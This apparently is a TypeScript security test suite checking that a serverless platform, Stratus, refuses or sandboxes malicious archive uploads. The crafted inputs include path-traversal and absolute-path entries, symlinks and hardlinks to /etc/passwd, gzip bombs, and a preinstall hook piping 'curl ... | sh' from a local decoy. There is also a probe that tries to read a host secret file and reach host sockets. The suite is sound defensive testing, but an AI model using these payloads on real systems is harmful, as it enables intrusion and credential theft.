// SECURITY-CASES.md section B, "Malicious uploads": archives crafted byte by byte (upload-harness.ts)
// against the real API of a real platform (process driver), each case asserting its answer AND the
// invariants (canary answers, the victim's previous version serves, sentinel dir untouched, nothing
// named evil* anywhere, no temp dir left, no canary secret in any response or store file).
//
// Where our answer differs from the catalogue's "Expected" column, the test says so: the catalogue
// suggests 422 for caps; Stratus answers 413 ARCHIVE_TOO_LARGE (a documented, stable code, docs/build.md).
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { gzipSync } from "node:zlib";
import { project } from "../helpers/platform-fixture";
import { chunk, deployHead, paxPath, rawRequest, rawTarGz, startUploadHarness, ustarHeader, type RawEntry, type UploadHarness } from "./upload-harness";

const MiB = 1024 * 1024;
let h: UploadHarness;

before(async () => {
  // Small caps keep the cases cheap; the defaults are tested the same way in test/archive.test.ts.
  h = await startUploadHarness({ "build.maxArchiveBytes": 2 * MiB, "build.maxUnpackedBytes": 16 * MiB });
});
after(async () => {
  await h?.close();
});

const INDEX: RawEntry = { name: "index.js", body: "module.exports.intruder = (req, res) => res.send('intruder');\n" };

/** Deploys `archive` and expects a plain error status with `code` before any build output. */
async function expectRefused(label: string, archive: Buffer, status: number, code: string, mention?: RegExp): Promise<void> {
  const d = await h.deploy(archive);
  assert.equal(d.status, status, `${label}: ${JSON.stringify(d.body ?? d.final)}`);
  const err = (d.body as { error?: { code?: string; message?: string } }).error;
  assert.equal(err?.code, code, `${label}: ${JSON.stringify(d.body)}`);
  if (mention) assert.match(err?.message ?? "", mention, label);
  await h.check(label, d.body);
  const list = (await (await fetch(`${h.fx.url}/api/v1/functions`, { headers: { authorization: `Bearer ${h.fx.token}` } })).json()) as { functions?: { name: string }[] };
  assert.ok(!(list.functions ?? []).some((f) => f.name === "intruder"), `${label}: nothing of the refused upload was deployed`);
}

describe("B. malicious uploads", () => {
  test("B1: ../ traversal, absolute paths, C:.., backslashes → 400, nothing written anywhere", async () => {
    const cases: [string, RawEntry[]][] = [
      ["dot-dot", [INDEX, { name: "../../evil.txt", body: "x" }]],
      ["dot-dot deep", [INDEX, { name: "src/../../../../../../tmp/evil.txt", body: "x" }]],
      ["absolute", [INDEX, { name: join(tmpdir(), "stratus-evil-abs"), body: "x" }]],
      ["absolute /etc", [INDEX, { name: "/etc/evil.txt", body: "x" }]],
      ["drive letter", [INDEX, { name: "C:..\\evil.txt", body: "x" }]],
      ["backslashes", [INDEX, { name: "..\\..\\evil.txt", body: "x" }]],
    ];
    for (const [label, entries] of cases) await expectRefused(`B1 ${label}`, rawTarGz(entries), 400, "INVALID_ARCHIVE");
  });

  test("B2: a symlink to /etc, then a file through it (one archive, and across two deploys) → 400; no link accepted", async () => {
    await expectRefused("B2 symlink", rawTarGz([INDEX, { name: "etc", type: "2", linkname: "/etc" }]), 400, "INVALID_ARCHIVE", /symlink/);
    await expectRefused("B2 symlink then write", rawTarGz([INDEX, { name: "d", type: "2", linkname: "/etc" }, { name: "d/evil.txt", body: "x" }]), 400, "INVALID_ARCHIVE", /symlink/);
    await expectRefused("B2 relative symlink", rawTarGz([INDEX, { name: "up", type: "2", linkname: "../../.." }, { name: "up/evil.txt", body: "x" }]), 400, "INVALID_ARCHIVE", /symlink/);
    // Across two deploys: the first (a link named "d") is refused whole, so the second (a plain folder
    // "d") writes into its own fresh dir only, and ships inside its own artifact.
    const second = await h.deploy(rawTarGz([{ name: "index.js", body: "module.exports.btwo = (req, res) => res.send('b2');\n" }, { name: "d/through-link.txt", body: "x" }]));
    assert.equal(second.final?.type, "result", JSON.stringify(second.final));
    assert.equal(existsSync("/etc/through-link.txt"), false);
    const art = await readdir(join(h.fx.dataDir, "artifacts"));
    assert.equal(art.filter((a) => existsSync(join(h.fx.dataDir, "artifacts", a, "d", "through-link.txt"))).length, 1, "the plain file lives only inside its artifact");
    await h.check("B2 across two deploys", second.events);
  });

  test("B3: hardlinks to an outside path or to an earlier entry → 400", async () => {
    await expectRefused("B3 outside", rawTarGz([INDEX, { name: "passwd", type: "1", linkname: "/etc/passwd" }]), 400, "INVALID_ARCHIVE", /hardlink/);
    await expectRefused("B3 earlier entry", rawTarGz([INDEX, { name: "again.js", type: "1", linkname: "index.js" }]), 400, "INVALID_ARCHIVE", /hardlink/);
    await expectRefused("B3 host secret", rawTarGz([INDEX, { name: "s.json", type: "1", linkname: h.hostSecretFile }]), 400, "INVALID_ARCHIVE", /hardlink/);
  });

  test("B4: names colliding after Unicode normalisation or case folding → 400", async () => {
    const pairs: [string, string][] = [["straße.js", "strasse.js"], ["caf\u00e9.js", "cafe\u0301.js"], ["Index.js", "index.js"], ["lib/a.js", "LIB/b.js"]];
    for (const [a, b] of pairs) await expectRefused(`B4 ${a}/${b}`, rawTarGz([INDEX, { name: a, body: "1" }, { name: b, body: "2" }]), 400, "INVALID_ARCHIVE", /collide|twice/);
  });

  test("B5: device, FIFO entries refused; setuid modes masked to 0444/0555 in the artifact", async () => {
    await expectRefused("B5 char device", rawTarGz([INDEX, { name: "null", type: "3" }]), 400, "INVALID_ARCHIVE", /character-device/);
    await expectRefused("B5 block device", rawTarGz([INDEX, { name: "sda", type: "4" }]), 400, "INVALID_ARCHIVE", /block-device/);
    await expectRefused("B5 fifo", rawTarGz([INDEX, { name: "pipe", type: "6" }]), 400, "INVALID_ARCHIVE", /fifo/);
    const d = await h.deploy(rawTarGz([
      { name: "index.js", body: "module.exports.bfive = (req, res) => res.send('b5');\n" },
      { name: "tool.sh", body: "#!/bin/sh\necho hi\n", mode: 0o6755 },
      { name: "world.txt", body: "w", mode: 0o4777 },
    ]));
    assert.equal(d.final?.type, "result", JSON.stringify(d.final));
    const version = d.final!.functions![0]!.version;
    const art = (await readdir(join(h.fx.dataDir, "artifacts"))).find((a) => a.startsWith(`sha256-${version}`));
    assert.ok(art, "the artifact of bfive exists");
    assert.equal((await stat(join(h.fx.dataDir, "artifacts", art, "tool.sh"))).mode & 0o7777, 0o555, "setuid/setgid dropped, executable kept");
    assert.equal((await stat(join(h.fx.dataDir, "artifacts", art, "world.txt"))).mode & 0o7777, 0o555);
    await h.check("B5 setuid", d.events);
  });

  test("B6: over the compressed cap → 413, from Content-Length before any body, or from the streaming counter", async () => {
    const declared = await rawRequest(h.fx.url, deployHead(h.fx, 3 * MiB), null, 10_000);
    assert.equal(declared.status, 413, declared.text.slice(0, 300));
    assert.match(declared.text, /ARCHIVE_TOO_LARGE/);
    // Chunked: no declared size; the counter stops a valid (incompressible) tar.gz once past 2 MiB.
    const big = rawTarGz([INDEX, { name: "big.bin", body: randomBytes(3 * MiB) }]);
    assert.ok(big.length > 3 * MiB);
    const body = Buffer.concat([chunk(big.subarray(0, MiB)), chunk(big.subarray(MiB, 2 * MiB)), chunk(big.subarray(2 * MiB)), Buffer.from("0\r\n\r\n")]);
    const chunked = await rawRequest(h.fx.url, deployHead(h.fx, null), body, 20_000);
    assert.equal(chunked.status, 413, chunked.text.slice(0, 300));
    assert.match(chunked.text, /ARCHIVE_TOO_LARGE/);
    await h.check("B6", declared.text, chunked.text);
  });

  test("B7: gzip bomb and lying sizes → refused early (413 at the uncompressed cap, catalogue: 422), memory bounded", async () => {
    const rss = process.memoryUsage().rss;
    const zeros = gzipSync(Buffer.alloc(64 * MiB), { level: 9 });
    assert.ok(zeros.length < 2 * MiB);
    const started = performance.now();
    await expectRefused("B7 raw bomb", zeros, 413, "ARCHIVE_TOO_LARGE");
    // One honest header announcing 64 MiB of zeros: refused at the header, before its body is read.
    const honest = gzipSync(Buffer.concat([ustarHeader({ name: "big.bin", size: 64 * MiB }), Buffer.alloc(64 * MiB), Buffer.alloc(1024)]), { level: 9 });
    await expectRefused("B7 honest header", honest, 413, "ARCHIVE_TOO_LARGE", /big\.bin/);
    // A header lying big (8 GiB - 1, the ustar maximum) with a tiny body: refused at the header.
    await expectRefused("B7 lying big", rawTarGz([INDEX, { name: "huge.bin", body: "x", size: 0o77777777777 }]), 413, "ARCHIVE_TOO_LARGE", /huge\.bin/);
    // A header lying small: the rest of the body is read as the next header → not a valid tar.
    await expectRefused("B7 lying small", rawTarGz([{ name: "index.js", body: "x".repeat(3000), size: 10 }]), 400, "INVALID_ARCHIVE");
    assert.ok(performance.now() - started < 20_000, "the bombs are refused quickly");
    assert.ok(process.memoryUsage().rss - rss < 256 * MiB, `memory bounded (grew ${Math.round((process.memoryUsage().rss - rss) / MiB)} MiB)`);
  });

  test("B8: too many entries → 413 (catalogue: 422); 10k-deep nesting → 400 (path length cap)", async () => {
    const many: RawEntry[] = Array.from({ length: 10_001 }, (_, i) => ({ name: `f/${i}.txt`, body: "x" }));
    await expectRefused("B8 entries", rawTarGz([INDEX, ...many]), 413, "ARCHIVE_TOO_LARGE", /10000 entries/);
    const deep = `${"a/".repeat(10_000)}x.js`;
    await expectRefused("B8 deep", rawTarGz([INDEX, paxPath(deep), { name: "placeholder", body: "x" }]), 400, "INVALID_ARCHIVE", /longer than 1024/);
  });

  test("B9: install scripts are off by default; allowed ones run sandboxed: no host file, no sentinel write, decoy hits 0 (loopback, host address, host abstract socket); the registry is reachable", async () => {
    let hits = 0;
    const decoy: Server = createServer((s) => { hits++; s.destroy(); });
    await new Promise<void>((r) => decoy.listen(0, "127.8.9.10", r));
    const port = (decoy.address() as { port: number }).port;
    // Issue 12.4 for builds: npm ci used to share the host's network namespace, where abstract Unix
    // sockets (which no packet filter sees) of every host service live. Now it has its own.
    const abstractName = `stratus-b9-${process.pid}-${randomBytes(4).toString("hex")}`;
    const abstractDecoy: Server = createServer((s) => { hits++; s.destroy(); });
    await new Promise<void>((r) => abstractDecoy.listen(`\0${abstractName}`, r));
    const hostDecoy: Server = createServer((s) => { hits++; s.destroy(); });
    await new Promise<void>((r) => hostDecoy.listen(0, "0.0.0.0", r));
    const hostPort = (hostDecoy.address() as { port: number }).port;
    // Not a sandbox veth's address (names `sx…`, src/shared/netns.ts): another file's sandbox may remove it meanwhile.
    const hostAddress = Object.entries(networkInterfaces()).filter(([name]) => !name.startsWith("sx")).flatMap(([, l]) => l ?? []).find((a) => a.family === "IPv4" && !a.internal)?.address ?? "127.0.0.1";
    try {
      const probe = [
        "const fs = require('fs'); const net = require('net'); const out = [];",
        `try { out.push('read:' + fs.readFileSync(${JSON.stringify(h.hostSecretFile)}, 'utf8')); } catch (e) { out.push('read:' + e.code); }`,
        `try { fs.writeFileSync(${JSON.stringify(join(h.sentinelDir, "written-by-script"))}, 'x'); out.push('wrote'); } catch (e) { out.push('write:' + e.code); }`,
        `out.push('env:' + (process.env.STRATUS_ADVERSARIAL_CANARY || 'none'));`,
        `const s = net.connect(${port}, '127.8.9.10'); s.on('connect', () => { out.push('connected'); s.end('leak'); }); s.on('error', (e) => out.push('connect:' + e.code));`,
        `const a = net.connect({ path: '\\0${abstractName}' }); a.on('connect', () => { out.push('abstract:connected'); a.end('leak'); }); a.on('error', (e) => out.push('abstract:' + e.code));`,
        `const hs = net.connect(${hostPort}, ${JSON.stringify(hostAddress)}); hs.on('connect', () => { out.push('host:connected'); hs.end('leak'); }); hs.on('error', (e) => out.push('host:' + e.code));`,
        // What npm needs still works: the registry through the namespace's NAT (DNS, then TCP 443).
        "const g = net.connect(443, 'registry.npmjs.org'); g.on('connect', () => { out.push('registry:connected'); g.destroy(); }); g.on('error', (e) => out.push('registry:' + e.code));",
        "setTimeout(() => { fs.writeFileSync('probe-result.txt', out.join('\\n')); process.exit(0); }, 4000);",
      ].join("\n");
      const make = async (name: string, allowScripts: boolean) => {
        const dir = await mkdtemp(join(tmpdir(), "stratus-b9-"));
        try {
          const pkg = {
            name, version: "1.0.0", dependencies: { helper: "file:./helper" },
            scripts: { preinstall: `(curl -s -m 2 http://127.8.9.10:${port}/x | sh) 2>/dev/null; node probe.js` },
            ...(allowScripts ? { stratus: { allowScripts: true } } : {}),
          };
          const files: Record<string, string> = {
            "package.json": JSON.stringify(pkg),
            "probe.js": probe,
            "helper/package.json": JSON.stringify({ name: "helper", version: "1.0.0", main: "index.js" }),
            "helper/index.js": "module.exports = 'helper';\n",
            "index.js": `const fs = require('fs'); const path = require('path'); require('helper');\nmodule.exports['${name}'] = (req, res) => { const p = path.join(__dirname, 'probe-result.txt'); res.send(fs.existsSync(p) ? fs.readFileSync(p, 'utf8') : 'no-probe'); };\n`,
          };
          for (const [rel, text] of Object.entries(files)) {
            await mkdir(join(dir, rel, ".."), { recursive: true });
            await writeFile(join(dir, rel), text);
          }
          const r = spawnSync("npm", ["install", "--package-lock-only", "--ignore-scripts", "--no-audit", "--no-fund"], { cwd: dir, encoding: "utf8" });
          assert.equal(r.status, 0, r.stderr);
          files["package-lock.json"] = await readFile(join(dir, "package-lock.json"), "utf8");
          return project(files);
        } finally {
          await rm(dir, { recursive: true, force: true });
        }
      };
      const off = await h.deploy(await make("bnine-off", false));
      assert.equal(off.final?.type, "result", JSON.stringify(off.final));
      assert.equal(await (await fetch(`${h.fx.url}/fn/bnine-off`)).text(), "no-probe", "scripts off: the preinstall did not run");
      await h.check("B9 scripts off", off.events);

      const on = await h.deploy(await make("bnine-on", true));
      assert.equal(on.final?.type, "result", JSON.stringify(on.final));
      const result = await (await fetch(`${h.fx.url}/fn/bnine-on`)).text();
      const lines = result.split("\n");
      assert.ok(lines.includes("read:ENOENT"), `the host file is not visible in the build sandbox: ${result}`);
      assert.ok(lines.includes("write:ENOENT"), `the sentinel dir is not visible: ${result}`);
      assert.ok(lines.includes("env:none"), `the platform's environment is not passed on: ${result}`);
      assert.ok(!lines.includes("connected"), `the decoy on a loopback address is unreachable: ${result}`);
      assert.ok(lines.includes("abstract:ECONNREFUSED"), `a host abstract socket is unreachable (own network namespace): ${result}`);
      assert.ok(lines.some((l) => l.startsWith("host:") && l !== "host:connected"), `the host's own address is unreachable: ${result}`);
      assert.ok(lines.includes("registry:connected"), `the registry is reachable through NAT: ${result}`);
      assert.equal(hits, 0, "decoy hits");
      await h.check("B9 scripts allowed", on.events, result);
    } finally {
      for (const d of [decoy, abstractDecoy, hostDecoy]) await new Promise<void>((r) => d.close(() => r()));
    }
  });

  test("B10: truncated (matching Content-Length, raw socket) or garbage → 400 at once; no half-deployed version", async () => {
    const archive = rawTarGz([INDEX, { name: "big.bin", body: randomBytes(400_000).toString("base64") }, { name: "z.txt", body: "z" }]);
    for (const frac of [0.05, 0.3, 0.5, 0.7, 0.95]) {
      const cut = archive.subarray(0, Math.floor(archive.length * frac));
      const a = await rawRequest(h.fx.url, deployHead(h.fx, cut.length), cut, 15_000);
      assert.notEqual(a.status, -1, `cut at ${frac}: no answer within 15 s (the old hang)`);
      assert.equal(a.status, 400, `cut at ${frac}: ${a.text.slice(0, 300)}`);
      assert.match(a.text, /INVALID_ARCHIVE/);
      await h.check(`B10 cut at ${frac}`, a.text);
    }
    await expectRefused("B10 garbage", Buffer.from("definitely not a gzip stream"), 400, "INVALID_ARCHIVE");
    await expectRefused("B10 gzip of garbage", gzipSync(randomBytes(5000)), 400, "INVALID_ARCHIVE");
    await expectRefused("B10 empty", gzipSync(Buffer.alloc(0)), 400, "INVALID_ARCHIVE");
  });

  test("B10b: the disk filling up while unpacking is the platform's failure: 507 BUILD_STORAGE_ERROR", async () => {
    assert.equal(process.getuid?.(), 0, "this case mounts a tmpfs over the data dir's tmp: run as root");
    const tmp = join(h.fx.dataDir, "tmp");
    const m = spawnSync("mount", ["-t", "tmpfs", "-o", "size=512k", "stratus-b10b-full", tmp], { encoding: "utf8" });
    assert.equal(m.status, 0, m.stderr);
    let d;
    try {
      d = await h.deploy(rawTarGz([INDEX, { name: "big.bin", body: randomBytes(1536 * 1024) }]));
      assert.equal(d.status, 507, JSON.stringify(d.body ?? d.final));
      assert.equal((d.body as { error?: { code?: string } }).error?.code, "BUILD_STORAGE_ERROR");
      assert.deepEqual(await readdir(tmp), [], "the partial tree is removed");
    } finally {
      spawnSync("umount", ["-l", tmp]);
    }
    await h.check("B10b", d?.body);
  });

  test("B11: two concurrent deploys of one function: one complete version wins", async () => {
    const a = project({ "index.js": "module.exports.race = (req, res) => res.send('A');\n" });
    const b = project({ "index.js": "module.exports.race = (req, res) => res.send('B');\n" });
    const [ra, rb] = await Promise.all([h.deploy(await a), h.deploy(await b)]);
    assert.equal(ra.final?.type, "result", JSON.stringify(ra.final));
    assert.equal(rb.final?.type, "result", JSON.stringify(rb.final));
    const byVersion = new Map([[ra.final!.functions![0]!.version, "A"], [rb.final!.functions![0]!.version, "B"]]);
    const fn = (await (await fetch(`${h.fx.url}/api/v1/functions/race`, { headers: { authorization: `Bearer ${h.fx.token}` } })).json()) as { activeVersion: string };
    const served = await (await fetch(`${h.fx.url}/fn/race`)).text();
    assert.equal(served, byVersion.get(fn.activeVersion), "the active version is complete and is what serves");
    for (const v of byVersion.keys()) {
      const art = (await readdir(join(h.fx.dataDir, "artifacts"))).find((x) => x.startsWith(`sha256-${v}`));
      assert.ok(art && existsSync(join(h.fx.dataDir, "artifacts", art, "stratus-manifest.json")), `artifact of ${v} is complete`);
    }
    assert.deepEqual((await readdir(join(h.fx.dataDir, "artifacts"))).filter((x) => x.startsWith(".tmp-")), [], "no half-written artifact");
    await h.check("B11", ra.events, rb.events);
  });

  test("B12 (issue 12.1): an upload that requires a host file gets 422 BUILD_IMPORT_OUTSIDE_PROJECT, never the file", async () => {
    const d = await h.deploy(await project({
      "index.js": [
        `const a = require(${JSON.stringify(h.hostSecretFile)});`,
        "const b = require('../../../../../../../../../../etc/passwd');",
        "module.exports.leak = (req, res) => res.json([a, b]);",
      ].join("\n"),
    }));
    assert.equal(d.final?.type, "error", JSON.stringify(d.final));
    assert.equal(d.final?.error?.code, "BUILD_IMPORT_OUTSIDE_PROJECT");
    assert.match(d.final?.error?.message ?? "", /host-secret\.json/);
    assert.match(d.final?.error?.message ?? "", /etc\/passwd/);
    assert.equal((await fetch(`${h.fx.url}/fn/leak`)).status, 404, "nothing was deployed");
    await h.check("B12", d.events);
  });
});
